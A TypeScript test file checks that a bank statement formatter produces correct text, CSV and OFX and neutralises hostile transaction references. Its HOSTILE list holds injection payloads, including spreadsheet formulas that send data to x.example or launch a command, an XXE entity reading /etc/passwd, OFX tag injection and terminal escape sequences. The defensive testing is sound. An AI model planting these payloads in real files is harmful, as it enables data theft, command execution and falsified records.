/** Statements as text, CSV and OFX, also of what somebody wrote to hurt who reads them. */
import { describe, expect, test } from "vitest";
import { type Entry, formatStatement, type Line, type Reason, type Statement } from "../../bank/index.ts";

const DAY = 20_500;
let balance = 100_000n;
const line = (moved: bigint, reason: Reason, reference = ""): Line => {
  balance += moved;
  const entry: Entry = {
    ...{ number: 7, key: "k7", kind: "posted", debit: "1", credit: "2", amount: moved < 0n ? -moved : moved },
    ...{ reason, reference, of: null, isFlagged: false, atMilliseconds: DAY * 86_400_000 + 3_723_000 },
    kind: "posted",
  };
  return { entry, moved, balance };
};

function statement(lines: () => readonly Line[], currency = "USD"): Statement {
  balance = 100_000n;
  const made = lines();
  return {
    ...{ bank: "firstbank.com", account: { id: "1000000008", kind: "current", currency } },
    ...{ fromDay: DAY - 30, toDay: DAY, opening: 100_000n, closing: balance, lines: made },
    madeAtMilliseconds: DAY * 86_400_000 + 40_000_000,
  };
}
const usual = statement(() => [
  line(-5_000n, "withdrawal"),
  line(0n, "transfer", "only held"),
  line(12_345n, "transfer", "Für Zoë, mit Dank"),
  line(-110_000n, "bill", "gas"),
]);

test("text is laid out in columns", () => {
  expect(formatStatement(usual, "text")).toBe(
    `firstbank.com  account 1000000008  USD
2026-01-17 to 2026-02-16 (UTC)

                            1000.00  balance before
2026-02-16 01:02    -50.00   950.00  withdrawal
2026-02-16 01:02   +123.45  1073.45  transfer        Für Zoë, mit Dank
2026-02-16 01:02  -1100.00   -26.55  bill            gas
                             -26.55  balance after
`,
  );
});

test("CSV has one line for each movement, with amounts that can be reckoned with (RFC 4180)", () => {
  expect(formatStatement(usual, "csv").split("\r\n")).toEqual([
    "time,entry,reason,reference,amount,balance,currency,key",
    "2026-02-16T01:02:03Z,7,withdrawal,,-50.00,950.00,USD,k7",
    '2026-02-16T01:02:03Z,7,transfer,"Für Zoë, mit Dank",123.45,1073.45,USD,k7',
    "2026-02-16T01:02:03Z,7,bill,gas,-1100.00,-26.55,USD,k7",
    "",
  ]);
});

test("OFX has the account, the period, each movement and the balance (OFX 2.1.1 §11.4.2)", () => {
  const text = formatStatement(usual, "ofx");
  expect(text).toMatch(/^<\?xml version="1.0" encoding="UTF-8"[^>]*\?>\n<\?OFX OFXHEADER="200" VERSION="211" /);
  const root = parseXml(text);
  expect(root.find("BANKACCTFROM")).toEqual(["firstbank", "1000000008", "CHECKING"]);
  expect(root.find("STMTRS").slice(0, 1)).toEqual(["USD"]);
  expect(root.find("BANKTRANLIST").slice(0, 2)).toEqual(["20260117", "20260216"]);
  expect(root.all("STMTTRN")).toEqual([
    ["ATM", "20260216010203", "-50.00", "7", "withdrawal"],
    ["XFER", "20260216010203", "123.45", "7", "transfer", "Für Zoë, mit Dank"],
    ["PAYMENT", "20260216010203", "-1100.00", "7", "bill", "gas"],
  ]);
  expect(root.find("LEDGERBAL")).toEqual(["-26.55", "20260216110640"]);
});

test("a currency without minor units has no point; a statement of nothing has its balances", () => {
  expect(
    formatStatement(
      statement(() => [line(-500n, "fee")], "JPY"),
      "csv",
    ),
  ).toContain("fee,,-500,99500,JPY");
  expect(
    formatStatement(
      statement(() => []),
      "text",
    ),
  ).toMatch(/balance before\n.*balance after\n$/);
  expect(
    parseXml(
      formatStatement(
        statement(() => []),
        "ofx",
      ),
    ).all("STMTTRN"),
  ).toEqual([]);
});

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  " =1",
  'a","b\r\n"=1',
  "</MEMO><TRNAMT>9999</TRNAMT>",
  "<![CDATA[ & ]]> &amp; &#0;",
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
  "\u0000\u0008\u001b[2J\u001b]0;x\u0007",
  "\u202egnorw\u2066",
  "half \ud800 of a pair",
  "\ufffe\uffff",
  "🏦".repeat(140),
];

describe("a reference that was written to do harm", () => {
  test.each(HOSTILE)("%j stays text", (reference) => {
    const given = statement(() => [line(-100n, "transfer", reference)]);
    // One record with eight fields, none of which a spreadsheet takes for a formula but the amount itself.
    const records = parseCsv(formatStatement(given, "csv"));
    expect(records.map((fields) => fields.length)).toEqual([8, 8]);
    expect(records[1]![3]).not.toMatch(/^\s*[=+\-@\t\r]/);
    expect(records[1]![3]!.replace(/^'/, "")).toBe(reference);
    // One transaction, whose amount is what it was.
    const [transaction, ...others] = parseXml(formatStatement(given, "ofx")).all("STMTTRN");
    expect(others).toEqual([]);
    expect([transaction![0], transaction![2], transaction!.length]).toEqual(["XFER", "-1.00", 6]);
    expect(Array.from(transaction![5]!).length).toBeLessThanOrEqual(255);
    // One line, without anything that moves the cursor or turns the direction.
    const text = formatStatement(given, "text");
    expect(text.split("\n").length).toBe(statementLines);
    expect(text.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
  });
});
const statementLines = formatStatement(
  statement(() => [line(-100n, "transfer", "x")]),
  "text",
).split("\n").length;

/** RFC 4180, strictly. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let rest = text;
  let fields: string[] = [];
  while (rest !== "") {
    const [whole, quoted, plain, end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest)!;
    fields.push(quoted?.replaceAll('""', '"') ?? plain!);
    rest = rest.slice(whole.length);
    if (end === ",") continue;
    records.push(fields);
    fields = [];
  }
  return records;
}

interface Element {
  readonly name: string;
  readonly children: (Element | string)[];
}

/** As much of XML as OFX has; throws where it is not well-formed. */
function parseXml(text: string) {
  const body = text.replace(/^(<\?[^>]*\?>\n)+/, "");
  if (/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u.test(body)) throw new Error("no character of XML");
  const top: Element = { name: "", children: [] };
  const open = [top];
  for (const [token, closing, name] of body.matchAll(/<(\/?)([A-Z0-9]+)>|[^<]+|</g)) {
    const here = open.at(-1)!;
    if (name === undefined) {
      if (token === "<" || /&(?!(amp|lt|gt|quot);)/.test(token)) throw new Error(`not well-formed: ${token}`);
      here.children.push(token);
    } else if (closing === "/") {
      if (open.pop()!.name !== name) throw new Error(`</${name}> closes something else`);
    } else {
      const element = { name, children: [] };
      here.children.push(element);
      open.push(element);
    }
  }
  if (open.length !== 1) throw new Error("not closed");
  const all = (name: string, from: Element = top): string[][] =>
    from.children.flatMap((child) => {
      if (typeof child === "string") return [];
      return child.name === name ? [child.children.map(textOf)] : all(name, child);
    });
  return { all, find: (name: string): string[] => all(name)[0]! };
}

const textOf = (child: Element | string): string =>
  typeof child === "string" ? child : child.children.map(textOf).join("");
